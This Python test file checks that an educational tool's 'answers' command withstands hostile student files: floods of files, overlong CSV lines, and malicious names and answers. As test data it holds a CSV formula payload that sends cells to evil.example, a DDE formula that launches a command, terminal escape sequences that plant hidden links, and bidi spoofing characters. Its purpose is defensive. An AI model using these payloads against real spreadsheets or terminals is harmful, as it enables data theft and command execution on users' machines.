"""``typhoon-edu answers`` against files made to harm the teacher's run: a flood of answers files from one device
(the class's files were the ones left out, by name order), names and answers that are spreadsheet formulas in the
``--csv`` table, terminal escape sequences and bidi characters in names and answers, and a first line longer than
Python's CSV cell limit (a traceback ended the whole run)."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from typhoon_edu import answers_cmd
from typhoon_edu.answers_cmd import merge, read_paths
from typhoon_edu.classroom.names import clean_name
from typhoon_edu.cli import main
from typhoon_edu.ui.quiz import device_tag

START = datetime(2026, 12, 7, 9, 0, 0)
FLOOD_TAG = device_tag("f" * 22)
EVIL_NAME = "Mei\x1b[2J\x1b[H\x1b]8;;http://evil.example\x07click\x1b]8;;\x07"
FORMULA_NAME = '=HYPERLINK("http://evil.example/steal?"&B3&C3,"Mei Chen")'
FORMULA_ANSWER = "=cmd|' /C calc'!A0"


def run(argv: list[str]) -> tuple[int, str]:
    out = io.StringIO()
    return main(["answers", "--lang", "en", *argv], out=out), out.getvalue()


def answers_json(folder: Path, student: str, entries: list[dict[str, str]], *, device: str = "",
                 lesson: str = "compass", file_name: str | None = None) -> Path:
    """An answers file as the lessons' store writes it (``<name>[-<device tag>]-<lesson>.json``)."""
    folder.mkdir(parents=True, exist_ok=True)
    stem = "".join(ch for ch in student if ch.isalnum()) or "x"
    name = file_name or (f"{stem}-{device}-{lesson}.json" if device else f"{stem}-{lesson}.json")
    path = folder / name
    path.write_text(json.dumps({"format": 1, "lesson": lesson, "student": student, "entries": entries},
                               ensure_ascii=False), encoding="utf-8")
    return path


def entry(question: str, answer: str, result: str, minute: int = 0) -> dict[str, str]:
    return {"key": "", "question": question, "answer": answer, "result": result,
            "when": (START + timedelta(minutes=minute)).isoformat(sep=" ")}


# ------------------------------------------------------------------------------------------------ 1. a flood of files
def test_a_flood_of_files_from_one_device_does_not_crowd_out_the_class(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(answers_cmd, "MAX_FILES", 40)  # 2,000 in use: the same choice, made quickly
    answers = tmp_path / "answers"
    for k in range(60):  # named to sort before every student's file
        answers_json(answers, f"{k:05}", [entry("Q?", "E", "right")], device=FLOOD_TAG, file_name=None)
    students = {"Mei": device_tag("m" * 22), "Ann": device_tag("a" * 22), "Tom": device_tag("t" * 22)}
    for name, tag in students.items():
        answers_json(answers, name, [entry("Q?", "E", "right", 1)], device=tag)
    (answers / "Zoe-compass-answers.csv").write_text(
        f"name,question,answer,right or wrong,when\nZoe,Q?,E,right,{START:%Y-%m-%d %H:%M:%S}\n", encoding="utf-8")

    reading = read_paths([answers])

    read_names = {a.student for a in reading.answers}
    assert {"Mei", "Ann", "Tom", "Zoe"} <= read_names, "the class's own files are read first"
    assert len(reading.files) == 40
    flood = [p for p in reading.problems if p.key == "flood"]
    assert len(flood) == 1 and flood[0].fields["tag"] == FLOOD_TAG and flood[0].fields["more"] == 24
    assert flood[0].fields["total"] == 60
    for lang in ("en", "zh-TW"):
        text = flood[0].text(lang)
        assert FLOOD_TAG in text and "24" in text and "60" in text and "{" not in text
    assert not [p for p in reading.problems if p.key == "too_many"], "no file of the class was left out"


def test_files_without_a_device_beyond_the_limit_are_counted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(answers_cmd, "MAX_FILES", 5)
    for k in range(8):
        answers_json(tmp_path, f"S{k}", [entry("Q?", "E", "right")])
    reading = read_paths([tmp_path])
    left = [p for p in reading.problems if p.key == "too_many"]
    assert len(reading.files) == 5 and len(left) == 1 and left[0].fields["more"] == 3
    assert {a.student for a in reading.answers} == {f"S{k}" for k in range(5)}
    assert "3" in left[0].text("en") and "3" in left[0].text("zh-TW")


# ------------------------------------------------------------------------------------------------ 2. formulas
def test_the_csv_table_never_holds_a_live_formula(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    answers_json(folder, FORMULA_NAME, [entry("=1+1?", FORMULA_ANSWER, "wrong"), entry("Q?", "-3", "wrong", 1),
                                        entry("Q?", "@SUM(A1)", "right", 2)])
    table = tmp_path / "class.csv"
    rc, _ = run([str(folder), "--csv", str(table)])
    assert rc == 0
    rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULA_NAME in cells and "'" + FORMULA_ANSWER in cells and "'-3" in cells and "'@SUM(A1)" in cells
    assert "'=1+1?" in cells


def test_a_download_written_formula_safe_reads_as_typed_and_matches_the_servers_copy(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    answers_json(folder, "Mei", [entry("Q?", FORMULA_ANSWER, "wrong"), entry("Q?", "-3", "wrong", 1)])
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["name", "question", "answer", "right or wrong", "when"])
    for minute, answer in enumerate((FORMULA_ANSWER, "-3")):  # as the lessons' download writes them: one ' before
        writer.writerow(["Mei", "Q?", "'" + answer, "wrong", f"{START + timedelta(minutes=minute):%Y-%m-%d %H:%M:%S}"])
    writer.writerow(["Mei", "Q?", "'quoted'", "wrong", f"{START + timedelta(minutes=5):%Y-%m-%d %H:%M:%S}"])
    (folder / "Mei-compass-answers.csv").write_text(out.getvalue(), encoding="utf-8")

    reading = read_paths([folder])
    kept, repeats = merge(reading.answers)
    assert repeats == 2, "the download's answers are the server's, handed in twice"
    assert sorted(a.answer for a in kept) == sorted([FORMULA_ANSWER, "-3", "'quoted'"])
    only = tmp_path / "only"
    only.mkdir()
    (only / "Mei-compass-answers.csv").write_text(out.getvalue().splitlines()[0] + "\n" + out.getvalue().splitlines()[1],
                                                  encoding="utf-8")
    rc, text = run([str(only)])
    assert rc == 0 and f"“{FORMULA_ANSWER}”" in text, "the most common wrong answer, as typed"


# ------------------------------------------------------------------------------------------------ 3. the terminal
def _unseen(text: str) -> list[str]:
    return [ch for ch in text if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


@pytest.mark.parametrize("lang", ["en", "zh-TW"])
def test_names_and_answers_reach_the_terminal_without_control_or_bidi_characters(tmp_path: Path, lang: str) -> None:
    folder = tmp_path / "in"
    spoofed = "Ann\u202eeoZ\u200b"
    answers_json(folder, EVIL_NAME, [entry("Q\x1b[2J?", "W\x1b[31m\u202eX", "wrong"), entry("Q\x1b[2J?", "E", "right", 1)])
    answers_json(folder, spoofed, [entry("Q\x1b[2J?", "W\x1b[31m\u202eX", "wrong", 2)], lesson="\x1b]0;pwned\x07x")
    (folder / "bad\x1b[2J\u202e.xlsx").write_bytes(b"PK\x03\x04")
    out = io.StringIO()
    rc = main(["answers", "--lang", lang, str(folder)], out=out)
    text = out.getvalue()
    assert rc == 0
    assert _unseen(text) == [], "no escape, bell, bidi or zero-width character is printed"
    assert clean_name(EVIL_NAME) in text and "Anneoz" not in text and "AnneoZ" in text
    assert "\ufffd" in text, "an answer's control characters are replaced visibly"


def test_names_read_from_files_are_cleaned_as_everywhere_else(tmp_path: Path) -> None:
    answers_json(tmp_path, "Mei\u202e Chen\u200b", [entry("Q?", "E", "right")])
    (tmp_path / "x-compass-answers.csv").write_text(
        f"name,question,answer,right or wrong,when\nMei\u2066 Chen,Q?,E,right,{START:%Y-%m-%d %H:%M:%S}\n",
        encoding="utf-8")
    reading = read_paths([tmp_path])
    kept, repeats = merge(reading.answers)
    assert {a.student for a in reading.answers} == {"Mei Chen"} and repeats == 1 and len(kept) == 1


# ------------------------------------------------------------------------------------------------ 4. long lines
def test_a_first_line_over_the_csv_cell_limit_is_named_and_the_rest_read(tmp_path: Path) -> None:
    (tmp_path / "a-long.csv").write_text("x" * 200_000 + "\nmore\n", encoding="utf-8")
    (tmp_path / "b-long.csv").write_text('"' + "y" * 200_000 + '",z\n', encoding="utf-8")
    answers_json(tmp_path, "Ann", [entry("Q?", "E", "right"), entry("Why?", "w" * 150_000, "free", 1)],
                 file_name="Ann-compass.json")  # json.dumps: one line of ~150 KB
    essay = "e" * 200_000
    (tmp_path / "Mei-compass-answers.csv").write_text(
        "name,question,answer,right or wrong,when\n"
        f"Mei,Why?,{essay},wrong,{START:%Y-%m-%d %H:%M:%S}\n"
        f"Mei,Q?,E,right,{START + timedelta(minutes=1):%Y-%m-%d %H:%M:%S}\n", encoding="utf-8")
    rc, text = run([str(tmp_path)])
    assert rc == 0 and "Traceback" not in text
    reading = read_paths([tmp_path])
    assert {Path(f).name for f in reading.files} == {"Ann-compass.json", "Mei-compass-answers.csv"}
    assert {(Path(p.path).name, p.key) for p in reading.problems} == {("a-long.csv", "not_answers"),
                                                                      ("b-long.csv", "not_answers")}
    assert len([a for a in reading.answers if a.student == "Mei"]) == 2
    assert any(a.answer == essay for a in reading.answers)


def test_a_roster_with_a_long_line_does_not_crash(tmp_path: Path) -> None:
    roster = tmp_path / "class.csv"
    roster.write_text("name\n" + "n" * 200_000 + "\nMei\n", encoding="utf-8")
    folder = tmp_path / "in"
    answers_json(folder, "Mei", [entry("Q?", "E", "right")])
    rc, text = run([str(folder), "--roster", str(roster)])
    assert rc == 0 and "Mei" in text
